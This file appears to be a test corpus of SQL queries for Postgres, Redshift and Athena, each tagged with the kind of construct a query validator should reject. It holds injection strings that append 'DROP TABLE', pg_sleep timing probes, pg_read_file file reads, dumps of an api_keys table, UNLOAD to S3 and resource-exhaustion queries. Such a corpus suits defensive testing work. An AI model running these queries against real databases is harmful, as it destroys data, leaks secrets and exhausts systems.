-- postgres functions
SELECT * FROM orders, LATERAL (SELECT pg_sleep(1)) x

-- postgres functions
SELECT * FROM orders TABLESAMPLE pg_sleep (1)

-- postgres functions
SELECT * FROM orders TABLESAMPLE SYSTEM ((SELECT pg_sleep(1)))

-- postgres syntax
SELECT * FROM orders TABLESAMPLE BERNOULLI (pg_sleep(1))

-- postgres functions
SELECT * FROM orders LIMIT pg_sleep(1)

-- postgres functions
SELECT * FROM orders FETCH FIRST (pg_sleep(1)) ROWS ONLY

-- postgres functions
SELECT * FROM orders OFFSET pg_sleep(1)

-- postgres functions
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders

-- postgres functions
SELECT sum(1) OVER (ORDER BY pg_sleep(1))

-- postgres functions
SELECT sum(1) OVER w FROM orders WINDOW w AS (PARTITION BY pg_sleep(1))

-- postgres functions
SELECT sum(1) OVER (ROWS BETWEEN pg_sleep(1) PRECEDING AND CURRENT ROW) FROM orders

-- postgres functions
SELECT string_agg('a', pg_sleep(1)::text ORDER BY pg_sleep(2)) FROM orders

-- postgres functions
SELECT percentile_cont(pg_sleep(1)) WITHIN GROUP (ORDER BY 1)

-- postgres functions
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_sleep(1)) FROM orders

-- postgres functions
SELECT 1 GROUP BY pg_sleep(1)

-- postgres functions
SELECT 1 GROUP BY GROUPING SETS ((pg_sleep(1)))

-- postgres functions
SELECT 1 GROUP BY ROLLUP (pg_sleep(1))

-- postgres functions
SELECT 1 GROUP BY CUBE ((pg_sleep(1)))

-- postgres functions
SELECT CAST(pg_sleep(1) AS text)

-- postgres functions
SELECT EXTRACT(epoch FROM pg_sleep(1))

-- postgres functions
SELECT ARRAY[pg_sleep(1)]

-- postgres functions
SELECT (ARRAY[1])[pg_sleep(1)]

-- postgres functions
SELECT ROW(pg_sleep(1))

-- postgres functions
SELECT 1 IN (pg_sleep(1))

-- postgres functions
SELECT 1 BETWEEN 0 AND pg_sleep(1)

-- postgres functions
SELECT 'a' LIKE pg_sleep(1)::text ESCAPE 'x'

-- postgres functions
SELECT now() AT TIME ZONE pg_read_file('x')

-- postgres functions
SELECT trim(both pg_read_file('x') from 'a')

-- postgres functions
SELECT overlay('a' placing pg_read_file('x') from 1)

-- postgres functions
SELECT position(pg_read_file('x') in 'a')

-- postgres functions
SELECT substring('a' from pg_read_file('x'))

-- postgres functions
SELECT json_object('a': pg_read_file('x'))

-- postgres functions
SELECT json_object('a' value pg_read_file('x') absent on null)

-- postgres functions
SELECT json_array((SELECT pg_read_file('x')))

-- postgres functions
SELECT json_arrayagg(pg_read_file('x'))

-- postgres syntax
SELECT xmlelement(name a, pg_read_file('x'))

-- postgres syntax
SELECT * FROM json_table(pg_read_file('x')::json, '$' COLUMNS (a text PATH '$'))

-- postgres functions
SELECT "pg_read_file"('x')

-- postgres functions
SELECT "PG_SLEEP"(1)

-- postgres functions
SELECT "lower "('x')

-- postgres characters
SELECT pg_slee\u0070(1)

-- postgres functions
SELECT pg_sleep
(1)

-- postgres functions
SELECT pg_sleep/**/(1)

-- postgres nodes
SELECT pg_sleep(VARIADIC '{1}')

-- postgres nodes
SELECT concat(VARIADIC ARRAY[pg_read_file('x')])

-- postgres statements
SELECT E'\'; DROP TABLE orders; --'; SELECT 1

-- postgres statements
SELECT 'a\'; DROP TABLE orders; --'

-- postgres statements
SELECT $a$ $b$ $a$; DROP TABLE orders; --$b$

-- postgres characters
SELECT $1

-- postgres nodes
SELECT :name

-- postgres nodes
SELECT ?

-- postgres nodes
SELECT %s

-- postgres nodes
SELECT %(name)s

-- postgres nodes
SELECT @a

-- postgres columns
SELECT @@version

-- postgres characters
SELECT `a` FROM orders

-- postgres characters
SELECT [a] FROM orders

-- postgres characters
SELECT * FROM [orders]

-- postgres nodes
SELECT * FROM orders WITH (NOLOCK)

-- postgres syntax
SELECT TOP 10 * FROM orders INTO x

-- postgres syntax
SELECT 1 /* */ */ 2

-- postgres characters
SELECT /*+ SeqScan(t) */ 1

-- postgres statements
SELECT 1 # 2; DROP TABLE x

-- postgres functions
SELECT * FROM orders QUALIFY pg_sleep(1) = 1

-- postgres statements
SELECT * EXCEPT (a) FROM orders; DROP TABLE x

-- postgres functions
SELECT * FROM read_csv('x')

-- postgres tables
SELECT * FROM 'orders'

-- postgres tables
SELECT * FROM "s3://x"

-- postgres statement
FROM orders SELECT *

-- postgres statement
FROM orders

-- postgres syntax
SELECT 1 FROM orders PREWHERE 1

-- postgres syntax
SELECT 1 FORMAT JSON

-- postgres syntax
SELECT 1 SETTINGS a = 1

-- postgres nodes
SELECT * FROM orders VERSION AS OF 1

-- postgres nodes
SELECT * FROM a PIVOT (sum(pg_sleep(1)) FOR x IN (1))

-- postgres nodes
SELECT * FROM orders LATERAL VIEW explode(x) t AS y

-- postgres nodes
SELECT * FROM orders CONNECT BY PRIOR a = b START WITH a = 1

-- postgres statement
PIVOT orders ON x

-- postgres statement
DESCRIBE orders

-- postgres statement
SHOW ALL

-- postgres statement
IMPORT FOREIGN SCHEMA x FROM SERVER y INTO z

-- postgres statement
SECURITY LABEL ON TABLE x IS 'y'

-- postgres statements
SELECT 1; --x
;SELECT 2

-- postgres statements
;SELECT 1; SELECT 2

-- postgres statement
START TRANSACTION READ WRITE

-- postgres statement
END

-- postgres statement
ROLLBACK TO s

-- postgres statement
NOTIFY x, 'y'

-- postgres statement
LOAD 'x'

-- postgres nodes
SELECT 'x'::text::regprocedure::text

-- postgres functions
SELECT jsonb_populate_record(null::customers, '{}')

-- postgres types
SELECT NULL::customers.email%TYPE

-- postgres statements
SELECT 1::int4; COMMIT

-- postgres syntax
SELECT * FROM customers AS OF SYSTEM TIME '-1h'

-- postgres functions
SELECT nextval('"x"'), lastval()

-- postgres functions
SELECT setval('order_seq', 1)

-- postgres functions
SELECT pg_try_advisory_xact_lock(1)

-- postgres functions
SELECT database_to_xml(true, true, '')

-- postgres functions
SELECT table_to_xml('api_keys', true, true, '')

-- postgres functions
SELECT xpath('/a', pg_read_file('x')::xml)

-- postgres functions
SELECT ts_token_type('default')

-- postgres functions
SELECT ts_debug('x')

-- postgres functions
SELECT ts_lexize('english_stem', 'stars')

-- postgres functions
SELECT get_raw_page('customers', 0)

-- postgres functions
SELECT heap_page_items('x')

-- postgres functions
SELECT * FROM pgstattuple('customers')

-- postgres functions
SELECT postgres_fdw_get_connections()

-- postgres functions
SELECT convert_from(pg_read_binary_file('x'), 'utf8')

-- postgres functions
SELECT binary_upgrade_set_next_pg_type_oid(1)

-- postgres functions
SELECT ri_fkey_check_del()

-- postgres functions
SELECT satisfies_hash_partition(1,1,1)

-- postgres functions
SELECT row_security_active('customers')

-- postgres functions
SELECT pg_column_size(customers) FROM customers

-- postgres functions
SELECT amvalidate(1), hashtext('x')

-- redshift tables
SELECT * FROM pg_user

-- redshift tables
SELECT * FROM pg_table_def

-- redshift tables
SELECT * FROM svl_qlog

-- redshift tables
SELECT * FROM svcs_query_summary

-- redshift tables
SELECT * FROM stv_tbl_perm

-- redshift tables
SELECT * FROM sys.x

-- redshift tables
SELECT * FROM svv_external_tables

-- redshift tables
SELECT * FROM public.sales s, s.x, pg_user

-- redshift tables
SELECT * FROM dev.pg_catalog.pg_user

-- redshift tables
SELECT * FROM dev.information_schema.tables

-- redshift functions
SELECT pg_backend_pid()

-- redshift functions
SELECT current_database()

-- redshift nodes
SELECT user

-- redshift nodes
SELECT session_user

-- redshift functions
SELECT pg_get_late_binding_view_cols()

-- redshift functions
SELECT pg_get_session_roles()

-- redshift functions
SELECT default_iam_role()

-- redshift functions
SELECT user_is_member_of('a','b')

-- redshift functions
SELECT role_is_member_of('a','b')

-- redshift functions
SELECT has_schema_privilege('x','create')

-- redshift functions
SELECT pg_last_query_id()

-- redshift functions
SELECT slice_num()

-- redshift functions
SELECT set_config('x','y',false)

-- redshift functions
SELECT current_setting('x')

-- redshift functions
SELECT ai_generate_text('x')

-- redshift functions
SELECT explain_model('x')

-- redshift functions
SELECT sha2(email, 256), f_hash(email) FROM customers

-- redshift characters
UNLOAD ('select 1') TO 's3://x' IAM_ROLE default

-- redshift statement
COPY sales FROM 's3://x' IAM_ROLE default

-- redshift syntax
SELECT APPROXIMATE f_x(DISTINCT a) FROM sales

-- redshift syntax
SELECT APPROXIMATE pg_sleep(1)

-- redshift functions
SELECT * FROM sales PIVOT (SUM(f_x(amount)) FOR region IN ('a'))

-- redshift columns
SELECT * FROM sales UNPIVOT (a FOR b IN (pg_user))

-- redshift nodes
SELECT * FROM sales s, UNPIVOT s.payload AS v AT k, pg_user

-- redshift tables
SELECT * FROM svl_user_info

-- redshift statements
SELECT * FROM #temp; DROP TABLE x

-- redshift nodes
SELECT 'x'::regproc

-- redshift syntax
SELECT NULL::pg_user

-- redshift functions
SELECT (pg_user).usename FROM pg_user

-- redshift functions
SELECT OBJECT('a', pg_get_userbyid(1))

-- redshift functions
SELECT * FROM sales QUALIFY row_number() OVER (ORDER BY f_x(1)) = 1

-- redshift nodes
SELECT * EXCLUDE (a) FROM sales, svv_tables

-- redshift nodes
SELECT 1 FROM sales START WITH f_x(1)=1 CONNECT BY PRIOR a=b

-- redshift nodes
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM x) SELECT * FROM x

-- redshift nodes
SELECT n FROM sales START WITH n = 1 CONNECT BY n = PRIOR n + 1

-- redshift statements
SELECT GETDATE(); DELETE FROM sales

-- redshift bounds
SELECT replicate('a', 100000000)

-- redshift bounds
SELECT repeat('a', 100000 * 100000)

-- redshift bounds
SELECT * FROM generate_series(1, 1000000000)

-- redshift joins
SELECT count(*) FROM sales a, sales b, sales c, sales d

-- redshift statements
SELECT 'a\'b'; DROP TABLE x; --'

-- redshift statements
SELECT 'a\\'; DROP TABLE x; --'

-- redshift statement
EXEC sp

-- redshift statement
GRANT ALL ON ALL TABLES IN SCHEMA x TO y

-- redshift statement
SHOW DATABASES

-- redshift functions
SELECT * FROM DATA_PREVIEW('s3://x')

-- redshift tables
SELECT * FROM stl_alert_event_log

-- redshift tables
SELECT * FROM external_schema.t, pg_external_schema

-- redshift columns
SELECT "$path" FROM spectrum.t

-- redshift columns
SELECT t."$size" FROM spectrum.t t

-- redshift columns
SELECT oid FROM sales

-- redshift columns
SELECT insertxid, deletexid FROM sales

-- redshift columns
SELECT tableoid FROM sales

-- athena nodes
SELECT current_user

-- athena columns
SELECT "$path" FROM orders

-- athena columns
SELECT o."$file_size" FROM orders o

-- athena columns
SELECT "$row_id" FROM orders

-- athena tables
SELECT * FROM "orders$snapshots"

-- athena tables
SELECT * FROM orders$files

-- athena tables
SELECT * FROM "orders$refs"

-- athena functions
SELECT * FROM TABLE(exclude_columns(TABLE(orders), DESCRIPTOR(a)))

-- athena functions
SELECT * FROM TABLE(sequence(1, 10000000))

-- athena functions
SELECT * FROM TABLE(system.builtin.sequence(1, 100))

-- athena functions
SELECT * FROM TABLE(mysql.system.query('select 1'))

-- athena nodes
WITH FUNCTION doubleup(x integer) RETURNS integer RETURN x * 2 SELECT doubleup(2)

-- athena statement
USING EXTERNAL FUNCTION f(a varchar) RETURNS varchar LAMBDA 'x' SELECT f('a')

-- athena syntax
WITH x AS (SELECT 1) USING EXTERNAL FUNCTION f(a varchar) RETURNS varchar LAMBDA 'x' SELECT f('a') FROM x

-- athena functions
SELECT lambda_fn(a) FROM orders

-- athena functions
SELECT http_get('x')

-- athena functions
SELECT "f"(a) FROM orders

-- athena functions
SELECT system.f(a) FROM orders

-- athena tables
SELECT * FROM system.runtime.tasks

-- athena tables
SELECT * FROM "system"."runtime"."queries"

-- athena tables
SELECT * FROM jmx.current.x

-- athena tables
SELECT * FROM hive.information_schema.columns

-- athena tables
SELECT * FROM "lambda:x"."a"."b"

-- athena tables
SELECT * FROM "s3tablescatalog/bucket".ns.t

-- athena tables
SELECT * FROM mycatalog.db.t

-- athena tables
SELECT * FROM tpch.sf10000.lineitem

-- athena bounds
SELECT sequence(1, 100000)

-- athena bounds
SELECT cardinality(transform(sequence(1,10000), x -> sequence(1,10000)))

-- athena bounds
SELECT reduce(sequence(1, 40), 'x', (s, x) -> concat(s, s), s -> length(s))

-- athena bounds
SELECT reduce(sequence(1, 60), ARRAY[1], (s, x) -> s || s, s -> cardinality(s))

-- athena bounds
SELECT flatten(repeat(repeat(1, 10000), 10000))

-- athena bounds
SELECT repeat(repeat('a', 10000), 10000)

-- athena bounds
SELECT repeat('a', x) FROM (VALUES 1000000000) t(x)

-- athena bounds
SELECT rpad('a', CAST('1000000000' AS integer))

-- athena bounds
SELECT array_agg(sequence(1, 10000)) FROM UNNEST(sequence(1, 10000)) t(x)

-- athena joins
SELECT count(*) FROM UNNEST(sequence(1,10000)) a(x), UNNEST(sequence(1,10000)) b(y)

-- athena joins
SELECT count(*) FROM UNNEST(sequence(1,10000)) a(x) JOIN UNNEST(sequence(1,10000)) b(y) ON x < y JOIN UNNEST(sequence(1,10000)) c(z) ON y < z

-- athena joins
SELECT count(*) FROM UNNEST(sequence(1,10000)) a(x) CROSS JOIN UNNEST(sequence(1,x)) b(y) CROSS JOIN UNNEST(sequence(1,y)) c(z)

-- athena bounds
SELECT numeric_histogram(1000000000, amount) FROM orders

-- athena functions
SELECT array_sort(combinations(ARRAY[1,2,3],2))

-- athena bounds
SELECT sequence(date '0001-01-01', date '9999-12-31', interval '1' day)

-- athena bounds
SELECT split(repeat('a,', 1000000), ',')

-- athena bounds
SELECT regexp_replace(repeat('a', 10000), '(a+)+$', '')

-- athena bounds
SELECT map(sequence(1,10000), repeat(sequence(1,10000), 10000))

-- athena statement
INSERT INTO x VALUES 1

-- athena statement
CREATE TABLE x AS SELECT 1

-- athena characters
EXPLAIN SELECT 1

-- athena characters
EXPLAIN ANALYZE SELECT 1

-- athena statement
TABLE orders

-- athena statement
SHOW FUNCTIONS

-- athena names
SELECT * FROM orders FOR VERSION AS OF (SELECT max(a) FROM system.x.y)

-- athena columns
SELECT $$a$$

-- athena characters
SELECT U&"\0070g" FROM orders

-- athena syntax
SELECT X'0G'

-- athena statements
SELECT 'a\'; DROP TABLE x; --'

-- athena characters
SELECT `a` FROM orders

-- athena statements
SELECT 1 -- 
; DROP TABLE x

-- athena characters
SELECT /* /* */ 1 */ 2

-- athena nodes
SELECT current_catalog

-- athena functions
SELECT current_groups()

-- athena functions
SELECT fail('x')

-- athena functions
SELECT * FROM orders MATCH_RECOGNIZE (MEASURES f_x(A.a) AS b PATTERN (A+) DEFINE A AS true)

-- athena functions
SELECT any_match(tags, t -> exfil(t)) FROM customers

-- athena functions
SELECT json_table(x) FROM orders

-- athena syntax
SELECT * FROM JSON_TABLE('[1]', 'lax $[*]' COLUMNS (a integer PATH 'lax $'))

-- athena characters
PREPARE p FROM SELECT 1

-- athena nodes
SELECT ? FROM orders

-- athena nodes
WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n+1 FROM t WHERE n < 10) SELECT * FROM t

-- athena statement
GRANT SELECT ON x TO y
